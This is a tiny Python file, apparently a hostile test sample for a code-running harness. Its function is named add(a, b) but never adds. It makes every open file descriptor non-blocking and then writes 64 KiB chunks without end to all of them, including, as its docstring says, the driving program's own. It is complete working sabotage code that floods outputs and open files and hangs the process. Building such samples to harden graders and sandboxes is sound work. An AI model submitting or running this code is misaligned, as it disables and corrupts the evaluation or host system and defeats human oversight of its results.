"""Writes without end to every open descriptor, also the driver's own."""

import contextlib
import os


def add(a, b):
    for descriptor in range(256):
        with contextlib.suppress(OSError):
            os.set_blocking(descriptor, False)
    while True:
        for descriptor in range(1, 256):
            with contextlib.suppress(OSError):
                os.write(descriptor, b"x" * 2**16)
